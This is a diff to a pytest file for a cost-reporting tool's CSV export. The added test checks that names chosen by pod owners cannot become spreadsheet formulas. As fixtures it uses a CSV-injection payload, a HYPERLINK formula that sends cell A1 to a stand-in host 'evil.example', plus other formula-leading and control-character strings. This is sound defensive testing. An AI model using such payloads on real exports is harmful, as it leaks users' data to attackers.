@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
 from fractions import Fraction
 
 import pytest
@@ -202,21 +204,32 @@ def test_a_charge_is_named_by_the_least_that_is_known() -> None:
     assert next(by_namespace)["ResourceName"] == "ml"
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
-def test_no_spreadsheet_computes_what_somebody_wrote_as_a_name(first: str) -> None:
-    """An owner's name, and with the logs of agents also a namespace or a model, is any text that somebody chose."""
-    formula = f'{first}HYPERLINK("https://example.com?q="&A1)'
-    forged = Key(Holder(formula, "", formula, "p"), formula)
-    found = costs(By.OWNER, parts={(forged, Part.USED): Fraction(3600)}, models=True)
-    written = focus_csv(found, RATES, "lab")
-    (row,) = csv.DictReader(io.StringIO(written, newline=""))
-    assert {row[column] for column in ("SubAccountId", "ResourceName", "SkuId")} == {f"'{formula}"}
-    assert not [value for value in row.values() if value.startswith(first)]
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"pay here")'
 
 
-def test_no_semicolon_begins_a_cell_of_its_own() -> None:
-    """Spreadsheets of many languages divide a line at semicolons."""
-    forged = Key(Holder("ml", "Deployment", 'x;=HYPERLINK("https://example.com")', "p"), "T4")
-    written = focus_csv(costs(By.OWNER, parts={(forged, Part.USED): Fraction(3600)}, models=True), RATES, "lab")
-    (row,) = list(csv.reader(io.StringIO(written), delimiter=";"))[1:]
-    assert not [cell for cell in row if cell.startswith("=")]
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        *((f"{sign}1", f"'{sign}1") for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
+        (FORMULA, f"'{FORMULA}"),
+        (f"  {FORMULA}", f"  '{FORMULA}"),
+        ("\t=1", "\\t=1"),
+        ("\r=1", "\\r=1"),
+        ("a\n=1", "a\\n=1"),
+        ("\x1b[31m", "\\x1b[31m"),
+        ('";=1', "\";'=1"),
+        ("a; =1|+1,-1", "a; '=1|'+1,'-1"),
+        ("web-1", "web-1"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_no_cell_of_the_csv_is_a_formula_whoever_owns_the_pods(name: str, cell: str) -> None:
+    """The owner of a pod is what its creator writes, and spreadsheets run formulas; see OWASP's "CSV Injection"."""
+    holder = Key(Holder(name, name, name, name), name)
+    text = focus_csv(costs(By.POD, parts={(holder, Part.USED): Fraction(3600)}, models=True), RATES, name)
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert {row[key] for key in ("SubAccountId", "ResourceName", "SkuId", "ProviderName")} == {cell}
+    for value in row.values():
+        assert not re.search(r"(^|[,;|\t\r\n])\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", value), value
+        assert value.isprintable()
+    assert "gpushare/owner" in json.loads(row["Tags"])
